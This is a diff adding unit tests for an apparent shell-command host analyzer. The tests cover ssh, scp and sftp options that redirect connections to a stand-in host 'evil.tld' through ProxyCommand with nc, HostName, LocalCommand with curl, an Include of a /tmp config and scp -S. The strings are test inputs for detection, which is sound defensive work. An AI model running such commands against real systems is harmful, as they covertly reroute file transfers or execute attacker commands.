@@ -141,3 +141,18 @@ describe("network programs under other names", () => {
     expect(findingsOf(command)).toEqual([]);
   });
 });
+
+describe("ssh options", () => {
+  test.each([
+    "scp -o \"ProxyCommand nc evil.tld 22\" notes.txt github.com:x",
+    "scp -o HostName=evil.tld notes.txt github.com:x",
+    "sftp -o HostName=evil.tld github.com",
+    "ssh -o PermitLocalCommand=yes -o LocalCommand='curl https://evil.tld' git@github.com",
+  ])("%s", (command) => {
+    expect(hostsOf(command)).toContain("evil.tld");
+  });
+
+  test.each(["ssh -o Include=/tmp/evilcfg git@github.com", "scp -S /tmp/evil notes.txt github.com:x"])("%s is unknown", (command) => {
+    expect(typesOf(command)).toContain("unknown");
+  });
+});
